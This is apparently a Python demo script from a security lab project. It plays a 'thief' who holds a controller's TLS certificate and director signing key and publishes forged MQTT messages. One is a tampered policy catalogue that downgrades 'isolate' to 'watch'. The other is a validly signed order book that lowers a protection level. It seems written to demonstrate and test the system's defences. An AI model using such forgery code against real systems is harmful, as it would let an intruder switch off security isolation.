"""A thief with the controller's certificate and director key: sends what an honest controller never would.

Run inside the core network: `python -m bartizan_lab.demo.thief FOLDER HOST PORT {catalogue,orders}`.
"""

import asyncio
import ssl
import sys
import time
from pathlib import Path

import aiomqtt
import msgspec

from bartizan.trust.dsse import sign
from bartizan.trust.keys import from_pem
from bartizan.trust.orders import PAYLOAD_TYPE
from bartizan.wire import codec
from bartizan.wire.capability import CAPABILITY
from bartizan.wire.down import CatalogueBundle, OrdersEnvelope
from bartizan.wire.topics import ALL_CATALOGUE, ALL_ORDERS


def tampered_catalogue(folder: Path) -> bytes:
    """Return the published catalogue with `isolate` made `watch` in every policy."""
    catalogue = folder / "catalogue"
    files = {
        path.relative_to(catalogue).as_posix(): path.read_bytes().replace(b'"isolate"', b'"watch"  ')
        for path in catalogue.rglob("*.json")
        if "changes" not in path.parts
    }
    return codec.encode(CatalogueBundle(files))


def loosening_orders(folder: Path) -> bytes:
    """Return an order book that lowers a level, properly signed with the director key."""
    now = time.time()
    book = {
        "generation": int(now) + 1_000_000,
        "issued_at": now,
        "expires_at": now + 3600,
        "capability": CAPABILITY,
        "site": None,
        "orders": [{"type": "lower", "id": "open-sesame", "level": "watch", "reason": "maintenance", "by": "soc"}],
    }
    key = from_pem((folder / "keys" / "director.pem").read_bytes())
    return codec.encode(OrdersEnvelope(sign(msgspec.json.encode(book), PAYLOAD_TYPE, [key])))


async def send(folder: Path, host: str, port: int, topic: str, payload: bytes) -> None:
    """Publish as the controller."""
    tls = ssl.create_default_context(cafile=str(folder / "keys" / "ca.pem"))
    tls.load_cert_chain(folder / "keys" / "tls" / "client.pem", folder / "keys" / "tls" / "client-key.pem")
    client = aiomqtt.Client(host, port, tls_context=tls, protocol=aiomqtt.ProtocolVersion.V5, identifier="thief")
    async with client:
        await client.publish(topic, payload, qos=1)


def main() -> None:
    """Send one forged message."""
    folder, host, port, what = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4]
    forged = {
        "catalogue": (ALL_CATALOGUE, tampered_catalogue),
        "orders": (ALL_ORDERS, loosening_orders),
    }
    topic, make = forged[what]
    asyncio.run(send(folder, host, port, topic, make(folder)))


if __name__ == "__main__":
    main()
